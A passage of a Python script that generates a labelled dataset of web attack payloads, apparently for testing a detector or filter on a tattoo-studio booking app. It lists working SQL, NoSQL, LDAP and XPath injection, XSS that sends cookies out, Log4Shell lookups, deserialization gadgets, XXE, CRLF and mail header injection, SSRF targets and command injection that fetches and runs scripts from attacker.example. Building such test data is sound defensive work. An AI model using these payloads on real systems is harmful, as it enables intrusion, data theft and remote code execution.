    ("caption-log4shell-sys-leak", "${jndi:ldap://${sys:java.version}.attacker.example/}"),
    ("chat-log4shell-upper-nested", "${${upper:j}${upper:n}di:ldaps://attacker.example/k}"),
    ("json-proto-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("json-constructor-prototype", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("query-proto-brackets", "__proto__[isAdmin]=true"),
    ("query-proto-ejs-gadget", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("json-proto-shell-gadget", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("python-eval-import", "__import__('os').system('id')"),
    ("python-eval-compile", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("node-eval-require", "require('child_process').exec('curl attacker.example|sh')"),
    ("php-eval-system", "1;system('id');"),
    ("php-eval-phpinfo", "phpinfo();"),
    ("js-eval-string-concat", "'+require('fs').readFileSync('/etc/passwd')+'"),
    ("ruby-eval-interpolation", "#{`id`}"),
    ("csv-dde-cmd", "=cmd|' /C calc'!A0"),
    ("csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Aftercare PDF\")"),
    ("csv-at-sum-dde", "@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-plus-dde", "+cmd|'/c calc'!A1"),
    ("csv-minus-dde", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-webservice", "=WEBSERVICE(\"http://attacker.example/?\"&A2)"),
    ("csv-importxml-sheets", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:B9),\"//a\")"),
    ("xxe-file-booking", "<?xml version=\"1.0\"?><!DOCTYPE booking [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><booking><note>&xxe;</note></booking>"),
    ("xxe-parameter-entity-oob", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><r>flash</r>"),
    ("xinclude-flash", "<flash xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></flash>"),
    ("xxe-svg-stencil", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>"),
    ("xxe-billion-laughs", "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><l>&d;&d;&d;</l>"),
    ("xxe-php-expect", "<!DOCTYPE r [<!ENTITY x SYSTEM \"expect://id\">]><r>&x;</r>"),
    ("yaml-python-apply", "!!python/object/apply:os.system ['id']"),
    ("yaml-python-new-subprocess", "aftercare: !!python/object/new:subprocess.check_output [['id']]"),
    ("yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("pickle-protocol0-raw", "cos\nsystem\n(S'id'\ntR."),
    ("pickle-protocol0-base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("java-jackson-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("java-fastjson-type", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.15:1099/x\",\"autoCommit\":true}"),
    ("dotnet-jsonnet-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089\"}}"),
    ("php-object-injection-file", "O:11:\"BookingFile\":1:{s:4:\"path\";s:11:\"/etc/passwd\";}"),
    ("php-object-injection-admin", "O:8:\"Customer\":1:{s:7:\"isAdmin\";b:1;}"),
    ("php-phar-wrapper", "phar://uploads/stencils/koi.jpg/test.txt"),
    ("node-serialize-iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
]

NOSQLI = [
    ("json-ne-null", "{\"$ne\": null}"),
    ("json-gt-empty", "{\"$gt\": \"\"}"),
    ("json-regex-prefix", "{\"$regex\": \"^a\"}"),
    ("where-string-breakout", "'; return true; var x='"),
    ("where-or-true", "' || '1'=='1"),
    ("json-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("json-where-deposit-true", "{\"$where\":\"this.deposit > 0 || true\"}"),
    ("query-bracket-ne", "password[$ne]=x"),
    ("query-bracket-regex-login", "username[$regex]=.*&password[$ne]="),
    ("json-or-empty", "{\"$or\":[{},{\"artist\":\"Dima\"}]}"),
    ("json-expr-function-sleep", "{\"$expr\":{\"$function\":{\"body\":\"function(){sleep(3000);return true}\",\"args\":[],\"lang\":\"js\"}}}"),
    ("agg-lookup-users", "[{\"$lookup\":{\"from\":\"users\",\"localField\":\"artist\",\"foreignField\":\"name\",\"as\":\"u\"}}]"),
    ("where-dos-loop", "'; while(true){}; var y='"),
    ("couchdb-mango-gt-null", "{\"selector\":{\"_id\":{\"$gt\":null}}}"),
    ("where-regex-password-leak", "'; return this.password.match(/^a/) != null; var z='"),
    ("json-in-admin", "{\"$in\": [\"admin\", \"owner\", \"artist\"]}"),
    ("json-nin-empty", "{\"$nin\": []}"),
    ("json-exists-true", "{\"$exists\": true}"),
    ("query-bracket-gt", "email[$gt]="),
    ("query-bracket-where", "filter[$where]=function(){return true}"),
    ("json-regex-options", "{\"$regex\": \".*\", \"$options\": \"si\"}"),
    ("agg-merge-overwrite", "[{\"$set\":{\"role\":\"admin\"}},{\"$merge\":{\"into\":\"users\",\"whenMatched\":\"merge\"}}]"),
    ("json-where-exfil-timing", "{\"$where\": \"if (this.password[0]=='a') sleep(3000); return true\"}"),
    ("flash-search-ne-price", "{\"price\": {\"$ne\": -1}, \"status\": {\"$ne\": \"deleted\"}}"),
    ("mongo-js-mapreduce", "{\"mapReduce\":\"bookings\",\"map\":\"function(){emit(1,db.getSiblingDB('admin'))}\",\"reduce\":\"function(){}\",\"out\":{\"inline\":1}}"),
    ("query-bracket-nested-or", "$or[0][role]=admin&$or[1][role][$ne]=x"),
    ("json-type-any", "{\"$type\": 2}"),
]

CRLF = [
    ("log-forging-raw", "koi\r\n[INFO] payment refund approved for booking 4821 by admin"),
    ("header-set-cookie-encoded", "stencil.png%0d%0aSet-Cookie:%20session=attacker"),
    ("response-splitting-full", "stencil.png%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A<script>alert(1)</script>"),
    ("redirect-location-injection", "/book?next=%0d%0aLocation:%20https://attacker.example/"),
    ("mail-bcc-raw", "client@example.com\r\nBcc: everyone@attacker.example"),
    ("mail-subject-cc-lf", "Aftercare reminder\nCc: x@attacker.example\nSubject: Your deposit was refunded"),
    ("mail-bcc-encoded-lf", "Your booking%0ABcc:spam@attacker.example"),
    ("header-node-unicode-truncation", "koi%E5%98%8A%E5%98%8DSet-Cookie:x=1"),
    ("log-xff-forged-line", "203.0.113.50\n127.0.0.1 - - [14/Jun/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512"),
    ("header-xss-protection-off", "flash%0d%0aX-XSS-Protection:0%0d%0a%0d%0a<svg onload=alert(1)>"),
    ("header-double-encoded", "koi%250d%250aSet-Cookie:a=b"),
    ("smtp-data-injection", "Thanks!\r\n.\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: Deposit refund\r\n\r\nClick https://attacker.example/refund\r\n.\r\n"),
    ("header-content-type-html-raw", "koi\r\nContent-Type: text/html\r\n\r\n<h1>Deposit refunded</h1>"),
    ("log-forging-encoded", "Dima%0d%0a2024-06-14T10:00:00Z INFO admin login ok user=owner"),
    ("log-forging-lf-only", "peony\n2024-06-14 10:01:00 WARN consent form bypass approved by manager"),
    ("header-cors-injection", "https://studio.example%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example"),
    ("mail-to-header-raw", "Siobhán O'Connell\r\nTo: list@attacker.example"),
    ("mail-reply-to-encoded", "Booking confirmed%0d%0aReply-To:%20billing@attacker.example"),
    ("header-location-raw", "/portfolio\r\nLocation: https://attacker.example/"),
    ("log-ansi-escape-forging", "koi\x1b[2K\r[OK] deposit refunded 4821"),
    ("header-cache-poison", "en%0d%0aX-Forwarded-Host:%20attacker.example"),
    ("log-json-break", "koi\"}\n{\"level\":\"info\",\"msg\":\"admin role granted\",\"user\":\"me\"}"),
    ("mail-mime-boundary-injection", "Hi\r\nContent-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>Pay deposit</a>\r\n--x--"),
    ("header-cr-only", "koi%0dSet-Cookie:%20admin=1"),
    ("header-lf-only-encoded", "koi%0aRefresh:%200;url=https://attacker.example/"),
    ("log-syslog-forging", "rose\n<13>Jun 14 10:00:00 studio-app payment: refund 4821 approved"),
    ("header-set-cookie-raw", "lang=en\r\nSet-Cookie: role=admin; Path=/"),
]

LDAP_XPATH = [
    ("ldap-wildcard-close-or", "*)(uid=*))(|(uid=*"),
    ("ldap-and-true", "admin)(&)"),
    ("ldap-objectclass-or", "*)(|(objectClass=*)"),
    ("ldap-artist-password-probe", "dima*)(userPassword=*"),
    ("ldap-memberof-admins", "artist)(|(memberOf=cn=admins,ou=groups,dc=studio,dc=example))"),
    ("ldap-null-truncate", "*))%00"),
    ("ldap-mail-wildcard", "*)(mail=*@studio.example"),
    ("ldap-description-leak", "rosa)(|(description=*deposit*)"),
    ("xpath-plain-or", "' or '1'='1"),
    ("xpath-or-empty", "' or 1=1 or ''='"),
    ("xpath-union-password", "'] | //user/password | //x['"),
    ("xpath-count-probe", "koi' or count(/*)=1 or '"),
    ("xpath-name-probe", "x' or name()='username' or 'x'='y"),
    ("xpath-substring-blind", "' or substring(//user[1]/password,1,1)='a' or '"),
    ("xpath-paren-or", "') or ('1'='1"),
    ("xpath-string-length-blind", "Dima' or string-length(//user[position()=1]/password)>5 or '"),
    ("xpath2-doc-oob", "' or doc('http://attacker.example/x')/a or '"),
    ("xpath2-doc-available-exfil", "' and doc-available(concat('http://attacker.example/',//user[1]/name)) and '1'='1"),
    ("xpath-numeric-or", "4821 or 1=1"),
    ("ldap-or-password-bypass", "admin)(|(uid=*"),
]

# ---- templated: hand-written prefixes + hand-written payloads, or ONE url-encoding ----
SQLI_PREFIXES = ["Flash #17", "koi sleeve", "Dima", "helix 16g", "2024-06-14", "inner wrist 3cm"]
SQLI_TAILS = [
    ("union-select", "' UNION SELECT email,phone FROM clients-- -"),
    ("boolean", "' AND 1=1 UNION SELECT card_last4,NULL FROM payments--"),
    ("mysql-sleep", "' OR SLEEP(6)#"),
    ("mssql-waitfor", "'; WAITFOR DELAY '0:0:6'--"),
    ("pg-sleep", "' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
]
SQLI_ENC = [
    "' UNION SELECT username,password FROM users-- -",
    "' AND SLEEP(5)#",
    "1; DROP TABLE consent_forms--",
    "' OR 'x'='x",
    "koi' AND extractvalue(1,concat(0x7e,database()))-- -",
]
XSS_PREFIXES = ["Fresh peony 🌸 ", "Healed (1 year) → ", "Flash #08 dagger ", "Artist bio: ", "Thanks Ana! "]
XSS_TAILS = [
    ("svg-onload", "<svg onload=alert(document.cookie)>"),
    ("img-onerror", "<img src=x onerror=fetch('//attacker.example/'+document.cookie)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("iframe-javascript", "<iframe src=javascript:alert(1)>"),
    ("script-src", "<script src=https://attacker.example/a.js></script>"),
]
XSS_ENC = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
]
CMDI_PREFIXES = ["stencil_koi_v3.png", "peony_forearm_FINAL.jpg", "flash_FL-2024-089.pdf", "mandala.svg"]
CMDI_TAILS = [
    ("semicolon-id", ";id"),
    ("pipe-curl-sh", "|curl http://attacker.example/s|sh"),
    ("and-wget", "&&wget http://198.51.100.4/x -O /tmp/x"),
    ("subst-uname", "$(uname -a)"),
]
CMDI_ENC = ["; cat /etc/passwd", "| id", "&& whoami", "`sleep 5`"]
TRAV_ENC = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "stencils/../../../proc/self/environ",
    "../../../.env",
    "../../../../root/.bash_history",
    "../../WEB-INF/web.xml",
]
SSRF_ENC = [
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:8080/admin",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO",
    "http://[::1]/server-status",
    "http://10.0.0.1/",
]
CODE_PREFIXES = ["Hi ", "Aftercare day 3: ", "Caption: ", "Design brief — "]
CODE_TAILS = [
    ("jinja2-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("log4shell-ldap", "${jndi:ldap://attacker.example/t}"),
    ("spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("erb-backtick", "<%= `id` %>"),
]
CODE_ENC = [
    "${jndi:ldap://attacker.example/a}",
    "{{7*'7'}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{\"__proto__\":{\"admin\":true}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
]
CRLF_ENC = [
    "koi\r\nSet-Cookie: sid=attacker",
    "x\r\nBcc: all@attacker.example",
    "ok\r\n[WARN] admin password reset for owner",
]


def urlenc(s):
    return quote(s, safe="")


def joined(prefixes, tails, n):
    out = []
    combos = [(p, c, t) for p in prefixes for (c, t) in tails]
    for p, c, t in rng.sample(combos, n):
        out.append(("prefix-" + c, p + t))
    return out


def encoded(payloads, n, name):
    return [("plain-%s+urlencode" % name, urlenc(p)) for p in rng.sample(payloads, n)]


def build():
    cats = []
    cats.append(("sqli", SQLI, joined(SQLI_PREFIXES, SQLI_TAILS, 6) + encoded(SQLI_ENC, 4, "sqli")))
    cats.append(("xss", XSS, joined(XSS_PREFIXES, XSS_TAILS, 6) + encoded(XSS_ENC, 4, "xss")))
    cats.append(("cmdi", CMDI, joined(CMDI_PREFIXES, CMDI_TAILS, 4) + encoded(CMDI_ENC, 3, "cmdi")))
    cats.append(("traversal", TRAVERSAL, encoded(TRAV_ENC, 6, "traversal")))
    cats.append(("ssrf", SSRF, encoded(SSRF_ENC, 5, "ssrf")))
    cats.append(("code", CODE, joined(CODE_PREFIXES, CODE_TAILS, 2) + encoded(CODE_ENC, 2, "code")))
    cats.append(("nosqli", NOSQLI, []))
    cats.append(("crlf", CRLF, encoded(CRLF_ENC, 3, "crlf")))
    cats.append(("ldap-xpath", LDAP_XPATH, []))
    rows = []
    seen = set()
    i = 0
    for cat, lits, tmpl in cats:
        for cls, v in list(lits) + tmpl:
            assert v and v not in seen, (cat, cls, v)
            seen.add(v)
            i += 1
            rows.append({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                         "label": "attack", "value": v})
    return rows


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    rows = build()
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
